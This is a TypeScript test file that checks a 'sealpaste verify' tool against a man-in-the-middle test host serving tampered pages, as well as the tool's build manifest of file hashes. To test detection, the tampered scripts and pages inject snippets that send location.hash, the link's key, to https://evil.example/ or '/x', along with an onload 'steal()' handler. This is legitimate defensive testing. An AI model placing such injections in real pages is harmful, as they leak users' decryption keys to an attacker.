/** Tests the manifest and `sealpaste verify` with the real build, and with a host that changes what the real one sends. */
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { readFileSync, writeFileSync } from 'node:fs';
import { Agent, createServer, type IncomingHttpHeaders, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Manifest } from '../../cli/manifest';
import { rootDir } from '../../scripts/source-hash.mjs';
import { createPaste } from '../support/api';
import { type Client, newClient, type Run } from '../support/client';
import { createSealed } from '../support/sealed';
import { withService } from '../support/service';

const MANIFEST = '/.well-known/sealpaste-manifest.json';

const service = withService();
let client: Client;

beforeAll(async () => {
  client = newClient(service.url);
});
afterAll(() => client?.remove());

const cleanUp: (() => void)[] = [];
afterEach(() => {
  for (const clean of cleanUp.splice(0)) clean();
});

const said = ({ code, stdout, stderr }: Run) => ({ code, stdout: stdout.toString(), stderr });
const verify = async (...args: string[]) => said(await client.run(['verify', ...args]));
const manifest = () => JSON.parse(readFileSync(join(rootDir, '.next/manifest.json'), 'utf8')) as Manifest;

type Change = (body: Buffer, headers: IncomingHttpHeaders) => Buffer;

/** A host between the client and the real one, which changes what some addresses respond. @param seen gets each request */
async function startHostile(changes: Record<string, Change>, seen: string[] = []): Promise<string> {
  const agent = new Agent({ keepAlive: true });
  const server = createServer((incoming, outgoing) => {
    const { url = '', headers } = incoming;
    seen.push(`${url} ${JSON.stringify(headers)}`);
    const change = changes[url];
    const encoding = change ? { 'accept-encoding': 'identity' } : {};
    const upstream = request(service.url + url, { agent, headers: { ...headers, ...encoding } }, async (response) => {
      if (!change) return void response.pipe(outgoing.writeHead(response.statusCode ?? 0, response.headers));
      const body = change(Buffer.concat(await response.toArray()), headers);
      const { 'content-length': _, ...sent } = response.headers;
      outgoing.writeHead(response.statusCode ?? 0, sent).end(body);
    });
    upstream.end();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  cleanUp.push(() => {
    agent.destroy();
    server.closeAllConnections();
    server.close();
  });
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

describe('the manifest', () => {
  it('is served as the build made it, and only once to who has it', async () => {
    const response = await fetch(service.url + MANIFEST);
    expect(await response.text()).toBe(readFileSync(join(rootDir, '.next/manifest.json'), 'utf8'));
    expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
    const headers = { 'If-None-Match': response.headers.get('etag') ?? '' };
    expect((await fetch(service.url + MANIFEST, { headers })).status).toBe(304);
  });

  it('has the hash of each file that a page names, in both forms', async () => {
    const { files } = (await (await fetch(service.url + MANIFEST)).json()) as {
      files: Record<string, { sha256: string; integrity: string }>;
    };
    const page = await (await fetch(service.url)).text();
    const named = [...page.matchAll(/(?:src|href)="(\/_next\/static\/[^"]+)"/g)].map(([, path]) => path as string);
    expect(named.length).toBeGreaterThan(3);
    for (const path of named) {
      const bytes = Buffer.from(await (await fetch(service.url + path)).arrayBuffer());
      const digest = createHash('sha256').update(bytes).digest();
      expect([path, files[path]]).toEqual([
        path,
        expect.objectContaining({ sha256: digest.toString('hex'), integrity: `sha256-${digest.toString('base64')}` }),
      ]);
    }
  });
});

describe('sealpaste verify', () => {
  it('finds no difference at a right host', async () => {
    const { code, stdout, stderr } = await verify(service.url);
    expect([code, stderr]).toEqual([0, '']);
    expect(stdout).toMatch(/says it is version \d\S+, build [0-9a-f]{12}\.\n.*\nThe same for 6 kinds of visitors: \d{3} files, pages \//);
  });

  it('takes the manifest of a file, and no other build’s', async () => {
    const other = join(client.folder, 'other.json');
    writeFileSync(other, JSON.stringify({ ...manifest(), build: 'other' }));
    expect(await verify(service.url, '--manifest', other)).toMatchObject({ code: 1, stderr: expect.stringMatching(/different builds/) });
    writeFileSync(other, readFileSync(join(rootDir, '.next/manifest.json')));
    expect((await verify(service.url, '--manifest', other)).code).toBe(0);
    writeFileSync(other, '[]');
    expect((await verify(service.url, '--manifest', other)).code).toBe(2);
  });

  it('exits with 6 when the host can’t be reached', async () => {
    expect(await verify('http://127.0.0.1:9')).toMatchObject({ code: 6, stdout: '' });
  });

  it('finds a script that one browser gets changed, and a manifest that hides it', async () => {
    const path = Object.keys(manifest().files).find((name) => /chunks\/.*\.js$/.test(name)) ?? '';
    const script: Change = (body, headers) =>
      /Firefox/.test(headers['user-agent'] ?? '') ? Buffer.concat([body, Buffer.from('\nfetch("/x?" + location.hash)')]) : body;
    const { code, stdout } = await verify(await startHostile({ [path]: script }));
    expect([code, stdout.match(/^differs: .*$/gm)]).toEqual([1, [`differs: ${path}: other bytes (Firefox)`]]);

    const hiding = await startHostile({
      [path]: script,
      [MANIFEST](body) {
        const claimed = JSON.parse(body.toString()) as Manifest;
        Object.assign(claimed.files[path] ?? {}, { sha256: 'f'.repeat(64) });
        return Buffer.from(JSON.stringify(claimed));
      },
    });
    expect(await verify(hiding)).toMatchObject({ code: 1, stderr: expect.stringContaining(`${MANIFEST}: another manifest`) });
    const hidden = await verify(hiding, '--manifest', join(rootDir, '.next/manifest.json'));
    expect([hidden.code, hidden.stdout.match(/^differs: .*$/gm)]).toEqual([
      1,
      [`differs: ${MANIFEST}: another manifest`, `differs: ${path}: other bytes (Firefox)`],
    ]);
  });
});

describe('the page of a link', () => {
  it('is the file of the version, and its key is not sent', async () => {
    const { path, key } = await createSealed(service.url, { content: 'text' });
    const [page = ''] = path.split('#');
    const seen: string[] = [];
    const host = await startHostile({}, seen);
    const { code, stdout, stderr } = said(await client.run(['verify', host, '--link', '-'], { input: host + path }));
    expect([code, stderr]).toEqual([0, '']);
    expect(stdout).toContain(` ${page}`);
    expect(seen.join('\n')).toContain(page);
    expect(seen.join('\n')).not.toContain(key);
  });

  it('is found when Chromium gets another one, by each thing that was added', async () => {
    const { path } = await createSealed(service.url, { content: 'text' });
    const [page = ''] = path.split('#');
    const host = await startHostile({
      [page](body, headers) {
        if (!headers['sec-ch-ua']) return body;
        const changed = body
          .toString()
          .replace('<head>', '<head><base href="https://evil.example/"><link rel="prefetch" href="https://evil.example/a">')
          .replace('</head>', '<script>fetch("https://evil.example/" + location.hash)</script></head>')
          .replace('<body', '<body onload="steal()"');
        return Buffer.from(changed);
      },
    });
    const { code, stdout } = await verify(host, '--link', host + path);
    const found = stdout.match(/^differs: .*Chromium, .*$/gm)?.map((line) => line.replace(/^differs: \S+: (.*) \(.*$/, '$1'));
    expect([code, found?.sort()]).toEqual([
      1,
      [
        'a <base>',
        'a <link> to https://evil.example/a',
        'a script inside it is not of this version',
        'an event handler onload',
        'other bytes',
      ],
    ]);
    expect(stdout).not.toMatch(/Firefox|curl/);
  });

  it('of a paste that the server encrypts is rendered there, and so differs', async () => {
    const { publicId } = await createPaste(service.url, { content: 'text' });
    expect(await verify(service.url, '--link', `${service.url}/view/${publicId}`)).toMatchObject({
      code: 1,
      stdout: expect.stringMatching(/other bytes/),
    });
  });
});
